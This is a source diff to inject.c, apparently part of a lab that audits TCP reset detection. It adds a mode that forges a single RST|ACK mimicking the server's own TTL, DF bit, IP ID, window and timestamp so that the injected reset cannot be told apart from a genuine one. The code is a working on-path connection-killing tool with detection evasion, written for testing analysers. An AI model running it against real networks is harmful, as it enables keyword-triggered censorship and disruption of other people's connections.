@@ -1,7 +1,7 @@
 /*
  * inject.c: an on-path TCP reset injector for the rstaudit lab.
  *
- *	inject -i IFACE -k KEYWORD [-cRT] [-n COUNT] [-p PORT] [-d DELAY_MS]
+ *	inject -i IFACE -k KEYWORD [-cPRT] [-n COUNT] [-p PORT] [-d DELAY_MS]
  *	    [-t SECONDS]
  *
  * Sniffs the packets arriving on IFACE with an AF_PACKET socket (it never
@@ -17,6 +17,11 @@
  *    (a third of them would take effect);
  *    (with -R, the TTL is the trigger's own as it arrived, as injectors
  *    that copy it do: tests/locate);
+ *    with -P, the perfect injector: one RST|ACK only, as the server's own
+ *    stack would make it, from the server's last packet it saw leave
+ *    IFACE: its TTL, DF, the next IP ID of its series, its window and
+ *    its timestamp option (TSval one on, TSecr the trigger's TSval), the
+ *    seq exactly its snd_nxt: nothing in the RST itself gives it away;
  *  - to the receiver (the server), claiming to be the client, DELAY_MS
  *    later (default 300), so the server's genuine reply can still reach
  *    the client after the forged RST: the race an analyser can see.
@@ -75,8 +80,16 @@ struct seg {
 	uint16_t	 ipid;
 	uint8_t		 ttl;		/* as received; as sent, for a forged RST
 					 * (0: FORGED_TTL) */
+	uint8_t		 df;		/* IPv4 DF set */
+	uint8_t		 has_ts;	/* a timestamp option: */
+	uint32_t	 tsval, tsecr;
 	size_t		 paylen;
 };
+
+/* -P: the last packet each flow's sender sent out of IFACE. */
+#define MAX_LAST	32
+static struct seg last_out[MAX_LAST];
+static int nlast, last_next;
 
 /* -T: the TTL each address's packets leave IFACE with. */
 struct ttl_seen {
@@ -94,7 +107,7 @@ static volatile sig_atomic_t quit;
 static struct pending pending[MAX_PENDING];
 static int npending;
 static int raw4 = -1, raw6 = -1;
-static int client_only, copy_ttl, trigger_ttl;
+static int client_only, copy_ttl, trigger_ttl, perfect;
 static struct ttl_seen ttls[MAX_TTLS];
 static int nttls;
 
@@ -154,6 +167,28 @@ csum_fold(uint32_t sum)
  * Parse an Ethernet frame into a TCP segment.  Returns the payload offset
  * in frame, or -1 when it is not an unfragmented TCP segment.
  */
+/* The timestamp option (kind 8) of a TCP header's options, into s. */
+static void
+opts_parse(const uint8_t *o, size_t len, struct seg *s)
+{
+	size_t i = 0;
+
+	while (i < len && o[i] != 0) {
+		if (o[i] == 1) {
+			i++;
+			continue;
+		}
+		if (i + 1 >= len || o[i + 1] < 2 || i + o[i + 1] > len)
+			return;
+		if (o[i] == 8 && o[i + 1] == 10) {
+			s->has_ts = 1;
+			s->tsval = get32(o + i + 2);
+			s->tsecr = get32(o + i + 6);
+		}
+		i += o[i + 1];
+	}
+}
+
 static long
 seg_parse(const uint8_t *frame, size_t len, struct seg *s)
 {
@@ -175,6 +210,7 @@ seg_parse(const uint8_t *frame, size_t len, struct seg *s)
 			return -1;
 		len = get16(ip + 2);
 		s->ipid = get16(ip + 4);
+		s->df = (ip[6] & 0x40) != 0;
 		s->ttl = ip[8];
 		memcpy(s->src, ip + 12, 4);
 		memcpy(s->dst, ip + 16, 4);
@@ -205,6 +241,7 @@ seg_parse(const uint8_t *frame, size_t len, struct seg *s)
 	s->ack = get32(tcp + 8);
 	s->win = get16(tcp + 14);
 	s->paylen = len - iplen - thl;
+	opts_parse(tcp + 20, thl - 20, s);
 	return (long)(ETH_HLEN + iplen + thl);
 }
 
@@ -223,14 +260,17 @@ rst_build(const struct seg *s, uint8_t *buf)
 {
 	size_t alen = s->family == AF_INET ? 4 : 16;
 	size_t iplen = s->family == AF_INET ? 20 : 40;
+	size_t thl = s->has_ts ? 32 : 20;
 	uint8_t *tcp = buf + iplen;
 	uint32_t sum;
 
-	memset(buf, 0, iplen + 20);
+	memset(buf, 0, iplen + thl);
 	if (s->family == AF_INET) {
 		buf[0] = 0x45;
-		put16(buf + 2, iplen + 20);
-		put16(buf + 4, s->ipid);	/* copied; DF clear */
+		put16(buf + 2, (uint16_t)(iplen + thl));
+		put16(buf + 4, s->ipid);	/* copied; DF clear but with -P */
+		if (s->df)
+			buf[6] = 0x40;
 		buf[8] = s->ttl ? s->ttl : FORGED_TTL;
 		buf[9] = IPPROTO_TCP;
 		memcpy(buf + 12, s->src, 4);
@@ -238,7 +278,7 @@ rst_build(const struct seg *s, uint8_t *buf)
 		put16(buf + 10, csum_fold(csum_add(0, buf, 20)));
 	} else {
 		buf[0] = 0x60;
-		put16(buf + 4, 20);
+		put16(buf + 4, (uint16_t)thl);
 		buf[6] = IPPROTO_TCP;
 		buf[7] = s->ttl ? s->ttl : FORGED_TTL;
 		memcpy(buf + 8, s->src, 16);
@@ -248,21 +288,29 @@ rst_build(const struct seg *s, uint8_t *buf)
 	put16(tcp + 2, s->dport);
 	put32(tcp + 4, s->seq);
 	put32(tcp + 8, s->ack);
-	tcp[12] = 5 << 4;
+	tcp[12] = (uint8_t)((thl / 4) << 4);
 	tcp[13] = TH_RST | TH_ACK;
 	put16(tcp + 14, s->win);
+	if (s->has_ts) {		/* NOP, NOP, TS */
+		tcp[20] = 1;
+		tcp[21] = 1;
+		tcp[22] = 8;
+		tcp[23] = 10;
+		put32(tcp + 24, s->tsval);
+		put32(tcp + 28, s->tsecr);
+	}
 	/* Pseudo-header: addresses, protocol, TCP length. */
 	sum = csum_add(0, s->src, alen);
 	sum = csum_add(sum, s->dst, alen);
-	sum += IPPROTO_TCP + 20;
-	put16(tcp + 16, csum_fold(csum_add(sum, tcp, 20)));
-	return iplen + 20;
+	sum += IPPROTO_TCP + (uint32_t)thl;
+	put16(tcp + 16, csum_fold(csum_add(sum, tcp, thl)));
+	return iplen + thl;
 }
 
 static int
 rst_send(const struct seg *s)
 {
-	uint8_t buf[60];
+	uint8_t buf[80];
 	size_t len = rst_build(s, buf);
 	struct sockaddr_in sin = { .sin_family = AF_INET };
 	struct sockaddr_in6 sin6 = { .sin6_family = AF_INET6 };
@@ -293,6 +341,61 @@ seg_name(const struct seg *s, char *buf, size_t size)
 	inet_ntop(s->family, s->dst, b, sizeof(b));
 	snprintf(buf, size, "%s.%u > %s.%u", a, s->sport, b, s->dport);
 	return buf;
+}
+
+/* -P: remember s, the newest packet of its flow and direction out of IFACE. */
+static void
+last_learn(const struct seg *s)
+{
+	int i;
+
+	for (i = 0; i < nlast; i++)
+		if (last_out[i].family == s->family &&
+		    last_out[i].sport == s->sport && last_out[i].dport == s->dport &&
+		    memcmp(last_out[i].src, s->src, 16) == 0 &&
+		    memcmp(last_out[i].dst, s->dst, 16) == 0)
+			break;
+	if (i == nlast) {
+		if (nlast < MAX_LAST)
+			nlast++;
+		else
+			i = last_next++ % MAX_LAST;
+	}
+	last_out[i] = *s;
+}
+
+/* -P: the newest packet of the reverse of trigger t, or NULL. */
+static const struct seg *
+last_reply(const struct seg *t)
+{
+	for (int i = 0; i < nlast; i++)
+		if (last_out[i].family == t->family &&
+		    last_out[i].sport == t->dport && last_out[i].dport == t->sport &&
+		    memcmp(last_out[i].src, t->dst, 16) == 0 &&
+		    memcmp(last_out[i].dst, t->src, 16) == 0)
+			return &last_out[i];
+	return NULL;
+}
+
+/* -P: the one RST the server's stack would send, from its last packet. */
+static int
+perfect_rst(const struct seg *t, struct seg *c)
+{
+	const struct seg *r = last_reply(t);
+	uint32_t nxt;
+
+	if (r == NULL)
+		return -1;
+	nxt = r->seq + (uint32_t)r->paylen;
+	c->seq = (int32_t)(t->ack - nxt) > 0 ? t->ack : nxt;
+	c->ttl = r->ttl;
+	c->df = r->df;
+	c->ipid = (uint16_t)(r->ipid + 1);
+	c->win = r->win;
+	c->has_ts = r->has_ts;
+	c->tsval = r->tsval + 1;
+	c->tsecr = t->tsval;
+	return 0;
 }
 
 /* -T: remember the TTL of a packet leaving IFACE, by its source. */
@@ -351,7 +454,14 @@ inject(const struct seg *t, double delay)
 	if (trigger_ttl)
 		c.ttl = t->ttl;
 	t0 = clk_mono_s();
-	for (i = 0; i < burst_count; i++) {
+	if (perfect) {
+		if (perfect_rst(t, &c) == 0)
+			rst_send(&c);
+		else
+			fprintf(stderr, "inject: -P: no packet of the server's "
+			    "seen on this flow\n");
+	}
+	for (i = 0; !perfect && i < burst_count; i++) {
 		c.seq = t->ack + burst_offset[i % BURST];
 		rst_send(&c);
 	}
@@ -432,7 +542,7 @@ sniff_open(const char *ifname)
 static void
 usage(void)
 {
-	fprintf(stderr, "usage: inject -i IFACE -k KEYWORD [-cRT] [-n COUNT] "
+	fprintf(stderr, "usage: inject -i IFACE -k KEYWORD [-cPRT] [-n COUNT] "
 	    "[-p PORT] [-d DELAY_MS] [-t SECONDS]\n");
 	exit(2);
 }
@@ -448,10 +558,11 @@ main(int argc, char *argv[])
 	double delay = 0.3, deadline, seconds = 120;
 	int fd, ch;
 
-	while ((ch = getopt(argc, argv, "ci:k:n:p:d:t:RT")) != -1) {
+	while ((ch = getopt(argc, argv, "ci:k:n:p:d:t:PRT")) != -1) {
 		switch (ch) {
 		case 'c': client_only = 1; break;
 		case 'n': burst_count = strtol(optarg, NULL, 10); break;
+		case 'P': perfect = 1; burst_count = 1; break;
 		case 'R': trigger_ttl = 1; break;
 		case 'T': copy_ttl = 1; break;
 		case 'i': ifname = optarg; break;
@@ -498,6 +609,8 @@ main(int argc, char *argv[])
 		if (from.sll_pkttype == PACKET_OUTGOING) {
 			if (copy_ttl && off >= 0)
 				ttl_learn(&s);
+			if (perfect && off >= 0)
+				last_learn(&s);
 			continue;
 		}
 		if (off < 0 || s.paylen == 0 || (port && s.dport != port))
